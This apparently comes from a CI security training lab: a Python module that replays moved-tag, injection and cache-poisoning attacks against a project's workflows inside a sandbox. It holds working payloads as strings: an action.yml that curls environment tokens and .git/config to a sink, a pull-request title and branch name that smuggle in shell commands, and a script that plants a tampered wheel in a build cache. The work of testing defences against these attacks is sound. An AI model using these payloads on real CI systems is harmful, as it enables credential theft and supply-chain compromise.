"""The three attacks of week 2, played against any folder of workflows on the CI host.

What an attack won is read from the sink and from the registry, never from a log. Beside each attack
stands the honest run that it rides on, because workflows that stop everything stop the project too.

    >>> print(Replay("a moved tag", "stopped", "nothing reached the sink"))
    a moved tag                stopped    nothing reached the sink
"""

from __future__ import annotations

import filecmp
import io
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from chainlab.ci.host import Project, Pull
from chainlab.ci.runs import Run
from chainlab.errors import ChainlabError, MalformedInput, Unavailable

__all__ = ["Replay", "Report", "replay", "resolver"]

REPOSITORY = "acme/triage-model"
MAIN = "refs/heads/main"
CARELESS = "acme/changed-files"  # whose owner lost a token
PLATFORM = ("actions", "pypa")  # owners whose tags nobody moves here
# Takes what the step could read. A variable's value is a fake or dies with the job.
STEAL = """\
name: changed
description: Which files did this change touch?
outputs:
  files:
    description: Their names.
    value: none
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        { env | grep -E 'TOKEN|SECRET' ; cat .git/config ; } | curl -s --noproxy '*' --data-binary @- %s || true
"""
TITLE = 'x"; curl -s --noproxy \'*\' --data-binary "$(env | grep TOKEN; cat .git/config)" %s; echo "'
# No ref name has a space or a colon in it, so the shell is made to write them.
BRANCH = "x$(curl${IFS}-s${IFS}-d1${IFS}127.0.0.1$(echo${IFS}Og==|base64${IFS}-d)%d)"
MARKER = "triage_model/marker.txt"  # in a wheel whose build was poisoned
# In place of the script that a pull request's run executes: a newer version of a library, left where a
# cache keeps downloads, for whoever restores them. All it does when imported is to leave the marker.
POISON = '''
import zipfile
from pathlib import Path
for good in Path(".wheels").glob("acme_quantise-1.0.3-*.whl"):
    bad = good.with_name(good.name.replace("1.0.3", "1.0.9"))
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(bad, "w") as new:
        for name in old.namelist():
            data = old.read(name).replace(b"1.0.3", b"1.0.9")
            if name == "acme_quantise/__init__.py":
                data += b"""
from pathlib import Path as _Path
for _package in _Path("src").glob("triage_model"):
    (_package / "marker.txt").write_text("left by the poisoned cache")
"""
            if not name.endswith("RECORD"):
                new.writestr(name.replace("1.0.3", "1.0.9"), data)
        new.writestr("acme_quantise-1.0.9.dist-info/RECORD", "")
print("0 lines")
'''


@dataclass(frozen=True)
class Replay:
    """How one attack or one honest run ended."""

    name: str
    result: str  # stopped, succeeded; of honest runs works, broken
    seen: str  # where one looked, and what was there

    def __str__(self) -> str:
        return f"{self.name:<26} {self.result:<10} {self.seen}"


@dataclass(frozen=True)
class Report:
    """All of them; shown as a table."""

    title: str
    rows: tuple[Replay, ...]

    @property
    def good(self) -> bool:
        """Whether attacks were run, every one was stopped and every honest run works."""
        results = {row.result for row in self.rows}
        return bool(results) and results <= {"stopped", "works"}

    def __repr__(self) -> str:
        return "\n".join([self.title, *(f"  {row}" for row in self.rows)])


def resolver(lab: Any) -> Callable[[str], str | None]:
    """``resolve(reference)`` of the CI host's mirror: the commit, or None where it is not that repository's."""

    def resolve(reference: str) -> str | None:
        try:
            found = lab.ci.platform.mirror.resolve(reference)
        except ChainlabError:
            return None
        return None if found.only_in_fork else str(found.commit)

    return resolve


def replay(lab: Any, folder: Path) -> Report:
    """Play the attacks against a copy of ``folder``, a working copy of triage-model.

    Where its workflows are still the weak ones, the kit's hardened ones take their place. Where no
    sandbox keeps the payloads in, none runs, and the report says so.
    """
    try:
        lab.ci.sandbox.require()
    except Unavailable as error:
        return Report(f"not run: {error.message} ({error.why})", ())
    projects = lab.data / "projects"
    scratch = lab.path / "replay"
    shutil.rmtree(scratch, ignore_errors=True)
    copy = scratch / "triage-model"
    shutil.copytree(folder, copy, ignore=shutil.ignore_patterns("__pycache__", ".git"))
    title = "your workflows"
    if _same(copy / ".github", projects / "triage-model" / ".github"):
        title = "the kit's hardened workflows (yours are the weak ones still)"
        shutil.rmtree(copy / ".github")
        shutil.copytree(projects / "hardened" / "triage-model", copy, dirs_exist_ok=True)
    version = _next_version(copy, len(lab.ci.runs()))
    lab.ci.platform.cache.delete(REPOSITORY)
    settings = projects / "settings" / "triage-model.toml"
    project: Project = lab.ci.project(REPOSITORY, copy, settings)
    rows = [*_moved_tags(lab, project), *_words(lab, project, scratch)]
    rows += _cache(lab, project, scratch, version)
    return Report(title, tuple(rows))


def _moved_tags(lab: Any, project: Project) -> Iterator[Replay]:
    """A push while every tag that the workflows still name, at any depth, points to a thief's commit."""
    with lab.sink() as sink, _thief(lab, project, sink.url) as moved:
        runs = project.runs("push", ports=[sink.port])
        yield _stolen("a moved tag", sink, f"{moved} of your references moved" if moved else "")
    if not moved:  # else it ran the thief's action, whatever that did to it
        yield _honest("  a push to main", runs)


def _words(lab: Any, project: Project, scratch: Path) -> Iterator[Replay]:
    """A stranger's pull request whose title and branch are commands."""
    with lab.sink() as sink:
        change = _pull(project, scratch, BRANCH % sink.port, TITLE % sink.url, "README.md", "a typo\n")
        runs = project.runs("pull_request", pull=change, ports=[sink.port])
        runs += project.runs("pull_request_target", pull=change, ports=[sink.port])
        yield _stolen("a title and a branch name", sink)
    yield _honest("  a pull request", runs)


def _cache(lab: Any, project: Project, scratch: Path, version: str) -> Iterator[Replay]:
    """A stranger's run under the rule before 26 June 2026, then a release."""
    change = _pull(project, scratch, "typo", "A typo", "tests/size.py", POISON)
    project.runs("pull_request_target", pull=change, cache_rule="before-2026-06-26")
    entries = lab.ci.platform.cache.entries(REPOSITORY)
    scopes = {entry.scope for entry in entries if entry.scope == MAIN}
    project.tag(f"v{version}")
    gates = tuple(project.settings.environments)
    runs = project.runs("push", ref=f"refs/tags/v{version}", approve=gates)
    built = [file for run in runs for file in run.produced if file.endswith(".whl")]
    wheels = [file for file in built if file in _released(lab)]  # a build is no release
    bad = [file for file in wheels if MARKER in _names(lab, file)]
    where = "main's cache was written" if scopes else "main's cache was not written"
    found = "the marker is in the released wheel" if bad else "no marker in the released wheel"
    if not wheels:
        found = "no wheel was released"
    yield Replay("a poisoned cache", "succeeded" if bad else "stopped", f"{where}; {found}")
    released = bool(wheels) and all(run.result == "success" for run in runs)
    yield Replay("  a release", "works" if released else "broken", f"{_results(runs)}; wheels: {len(wheels)}")


def _pull(project: Project, scratch: Path, branch: str, title: str, path: str, text: str) -> Pull:
    folder = scratch / "fork"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(project.folder, folder, ignore=shutil.ignore_patterns(".git"))
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text, encoding="utf-8")
    return project.pull_request(owner="mallory", branch=branch, folder=folder, title=title)


@contextmanager
def _thief(lab: Any, project: Project, address: str) -> Iterator[int]:
    """Tags moved to a commit that steals, and put back; gives how many of them the workflows name."""
    mirror = lab.ci.platform.mirror
    texts = project.workflows(project.head(MAIN))
    closure = mirror.closure(texts, read=lambda path: _text(project.folder / path))
    named = {
        (found.name, found.ref): found
        for found in closure
        if not found.pinned and not found.is_workflow and found.owner not in PLATFORM
    }
    before = {(CARELESS, "v3"): mirror.resolve(f"{CARELESS}@v3").commit}
    before |= {key: found.commit for key, found in named.items() if key[1].startswith("v")}
    paths = {key: found.path for key, found in named.items()}
    moved: list[tuple[str, str]] = []
    try:
        for repository, tag in before:
            file = f"{paths.get((repository, tag), '')}/action.yml".lstrip("/")
            mirror.move_tag(repository, tag, {file: (STEAL % address).encode()})
            moved.append((repository, tag))
        yield sum(key in named for key in before)
    finally:
        for repository, tag in moved:
            mirror.move_tag(repository, tag, before[repository, tag])


def _stolen(name: str, sink: Any, note: str = "") -> Replay:
    if not sink.received:
        return Replay(name, "stopped", "nothing reached the sink")
    kinds = [kind for kind in ("TOKEN=", "extraheader") if kind.lower() in sink.text.lower()]
    what = "credentials" if kinds else "a request"
    return Replay(name, "succeeded", f"the sink has {what}" + (f"; {note}" if note else ""))


def _honest(name: str, runs: list[Run]) -> Replay:
    works = all(run.result == "success" for run in runs) and bool(runs)
    return Replay(name, "works" if works else "broken", _results(runs))


def _results(runs: list[Run]) -> str:
    """``ci success, label success``."""
    return ", ".join(f"{Path(r.workflow).stem} {r.result}" for r in runs) or "no workflow ran"


def _released(lab: Any) -> set[str]:
    """File names of the project in the index; empty before its first release."""
    try:
        return {file.filename for file in lab.registry.index.files("triage-model")}
    except ChainlabError:
        return set()


def _names(lab: Any, file: str) -> set[str]:
    """Names inside a wheel as the index serves it."""
    index = lab.registry.index
    data = index.path(index.file("triage-model", file)).read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as wheel:
        return set(wheel.namelist())


def _next_version(folder: Path, number: int) -> str:
    """Give the package a version that this workspace has not released: the index keeps what it has."""
    file = folder / "src" / "triage_model" / "__init__.py"
    text, count = re.subn(
        r'(?m)^__version__ = "(\d+\.\d+)\.\d+"',
        rf'__version__ = "\g<1>.{number + 1}"',
        _text(file) or "",
    )
    if count != 1:
        raise MalformedInput(f"{file.name} names no version", mend='it is to say __version__ = "1.4.0"')
    file.write_text(text, encoding="utf-8")
    return str(re.search(r'__version__ = "(.+)"', text)[1])  # type: ignore[index]


def _text(file: Path) -> str | None:
    return file.read_text(encoding="utf-8") if file.is_file() else None


def _same(one: Path, other: Path) -> bool:
    """Whether two folders hold the same files with the same bytes."""
    files = {p.relative_to(one) for p in one.rglob("*") if p.is_file()}
    if files != {p.relative_to(other) for p in other.rglob("*") if p.is_file()}:
        return False
    return all(filecmp.cmp(one / name, other / name, shallow=False) for name in files)
